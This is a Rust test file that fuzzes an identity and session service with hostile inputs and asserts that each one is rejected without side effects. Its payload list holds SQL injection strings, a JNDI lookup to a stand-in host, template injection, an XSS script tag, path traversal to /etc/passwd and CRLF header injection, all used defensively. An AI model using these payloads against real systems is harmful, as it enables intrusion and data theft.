//! Hostile values in every parameter of every operation

use serde_json::{Map, Value, json};

use crate::harness::{
    Answer, Item, Latchkey, OPERATIONS, Operation, Template, borrowed, event, latchkey,
};

fn hostile_texts() -> Vec<String> {
    let mut all: Vec<String> = [
        "\0",
        "a\0b@example.com\0",
        "\u{202e}moc.elpmaxe@resu",
        "\u{200b}\u{feff}\u{2060}",
        "\u{1f40e}\u{200d}\u{1f525}",
        "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
        "\u{fdfa}\u{10ffff}\u{e000}",
        "%",
        "%00%ff%zz",
        "' OR '1'='1' --",
        "\"; DROP TABLE users; --",
        "{\"S\":\"USER#admin\"}",
        "USER#nobody",
        "SESSION#*",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}<%= 7*7 %>",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "a\r\nSet-Cookie: x=y\r\n\r\nbody",
        "-1",
        "NaN",
        "1e309",
        "99999999999999999999999999999999",
        "true",
        "null",
        "[object Object]",
        "\u{661}\u{662}\u{663}\u{664}\u{665}\u{666}",
    ]
    .map(str::to_owned)
    .into();
    all.extend([
        "\u{1f40e}".repeat(250),
        "a".repeat(1000),
        "[".repeat(1000),
        "a@".repeat(120),
        "\\".repeat(1000),
        "(".repeat(64),
    ]);
    all
}

fn object(fields: &[(&str, String)]) -> Value {
    fields
        .iter()
        .map(|(name, value)| ((*name).to_owned(), json!(value)))
        .collect::<Map<_, _>>()
        .into()
}

/// Asserts an error with keys in the format of the contract, or success where the operation accepts
/// any input.
#[track_caller]
fn is_an_answer(operation: &Operation, answer: &Answer, what: &str) {
    let accepts_any_input = [
        "/identity/password/validate",
        "/identity/users/email/generate_code",
        "/resource/users/me",
    ]
    .contains(&operation.path);
    if answer.status == 201 && accepts_any_input {
        return;
    }
    assert!((400..500).contains(&answer.status), "{what}: {answer:?}");
    assert_eq!(answer.header("set-cookie"), None, "{what}");
    let body = answer.json();
    let keys = body["errors"]
        .as_array()
        .unwrap_or_else(|| panic!("{what}: {answer:?}"));
    let is_key = |key: &Value| {
        key.as_str().is_some_and(|key| {
            key.contains('.')
                && key
                    .bytes()
                    .all(|c| c.is_ascii_lowercase() || b"._".contains(&c))
        })
    };
    assert!(
        !keys.is_empty() && keys.iter().all(is_key),
        "{what}: {answer:?}"
    );
}

#[tokio::test]
async fn hostile_texts_are_rejected_without_effect() {
    // Without back-off, so that every text is evaluated.
    let latchkey = Latchkey::start(&[("IDENTITY_SIGN_IN_FREE_ATTEMPTS", "0")]).await;
    let user = latchkey.signed_up("hostile").await;
    // The last use of the session changes with any request, and the user may store any JSON text.
    let stored = async || {
        let mut stored = latchkey.everything().await;
        for item in stored.values_mut() {
            for name in ["last_used_at", "data", "updated_at"] {
                item.remove(name);
            }
        }
        stored
    };
    let before = stored().await;
    for operation in OPERATIONS {
        // Addresses for which no request with harmless values succeeds: sign-up needs a free
        // address, a code an account.
        let email = if operation.path.ends_with("generate_code") {
            "nobody@example.com"
        } else {
            &user.email
        };
        for (name, _) in operation.parameters {
            for (number, text) in hostile_texts().iter().enumerate() {
                if operation.signed_in {
                    // The tenth wrong secret would end the session.
                    let clear = |item: &mut Item| drop(item.remove("failures"));
                    latchkey.edit_session(&user, &user.session, clear).await;
                }
                let fields = operation.harmless_but(email, name, text);
                let request = operation.request(&latchkey, &user);
                let request = if number % 2 == 0 {
                    request.form(&borrowed(&fields))
                } else {
                    request.json(&object(&fields))
                };
                is_an_answer(
                    &operation,
                    &request.send().await,
                    &format!("{} {name}: {text:?}", operation.path),
                );
            }
        }
        assert_eq!(stored().await, before, "{}", operation.path);
    }
}

#[tokio::test]
async fn hostile_sessions_are_not_found() {
    let latchkey = latchkey().await;
    let path = "/identity/sessions";
    for token in hostile_texts()
        .iter()
        .filter(|text| text.bytes().all(|byte| byte >= b' ' && byte != b';'))
    {
        for request in [
            latchkey.sign_out(token),
            latchkey.delete(path).bearer(token),
            latchkey
                .delete(path)
                .header("cookie", format!("a={token}; _barong_session={token}")),
        ] {
            let answer = request.send().await;
            // A value outside ASCII may also be rejected as a missing session.
            let statuses: &[u16] = if token.is_ascii() {
                &[404]
            } else {
                &[400, 404]
            };
            assert!(statuses.contains(&answer.status), "{token:?}: {answer:?}");
        }
    }
    let long = "a".repeat(6000);
    latchkey
        .sign_out(&long)
        .send()
        .await
        .is_refused(404, &["identity.session.not_found"]);
    let dots = ".".repeat(6000);
    latchkey
        .delete(path)
        .bearer(&dots)
        .send()
        .await
        .is_refused(404, &["identity.session.not_found"]);
}

#[tokio::test]
async fn hostile_events_are_answered() {
    let latchkey = latchkey().await;
    for function in Template::read().functions {
        for (method, path) in &function.routes {
            // Values that API Gateway accepts in a query string or a header.
            for text in [
                "a b",
                "[",
                "<script>",
                "%zz&\u{fc}& #",
                "a=\"b\"&c=`d`|{e}\\^",
                "\u{1f40e}",
                "%ff%00",
                "http://evil.example/?@#",
                "=;=,;",
            ] {
                // The pages reject other methods before they read anything.
                let method = if function.binary == "pages" {
                    "GET"
                } else {
                    method.as_str()
                };
                let mut event = event(method, path);
                event["rawQueryString"] = json!(text);
                event["queryStringParameters"] = json!({ text: text });
                event["cookies"] = json!([text, format!("_barong_session={text}")]);
                event["requestContext"]["domainName"] = json!(text);
                event["requestContext"]["http"]["sourceIp"] = json!(text);
                event["requestContext"]["http"]["userAgent"] = json!(text);
                event["headers"]["host"] = json!(text);
                event["rawPath"] = json!(format!("{path}/{text}"));
                event["pathParameters"] =
                    json!({ "id": text, "key": text, "topic": text, "proxy": "sign_in/" });
                if method != "GET" {
                    event["headers"]["content-type"] = json!("application/json");
                    event["body"] = json!(text);
                }
                let answer = latchkey.invoke(&function.logical_id, event).await;
                let status = answer
                    .as_ref()
                    .ok()
                    .and_then(|answer| answer["statusCode"].as_u64());
                assert!(
                    status.is_some_and(|status| status < 500),
                    "{} {text:?}: {answer:?}",
                    function.logical_id
                );
            }
        }
    }
}

#[tokio::test]
async fn a_body_that_is_not_valid_base64_is_malformed() {
    let latchkey = latchkey().await;
    let template = Template::read();
    for operation in OPERATIONS {
        let function = template
            .functions
            .iter()
            .find(|function| {
                function.routes.iter().any(|(method, path)| {
                    let path = path.replace("{key}", "none").replace("{id}", "none");
                    method == operation.method && path == operation.path
                })
            })
            .unwrap();
        let mut event = event(operation.method, operation.path);
        event["headers"]["content-type"] = json!("application/json");
        event["body"] = json!("{no base64}");
        event["isBase64Encoded"] = json!(true);
        let answer = latchkey.invoke(&function.logical_id, event).await.unwrap();
        assert_eq!(answer["statusCode"], 400, "{answer}");
        assert_eq!(
            answer["body"], r#"{"errors":["request.malformed_body"]}"#,
            "{answer}"
        );
    }
}
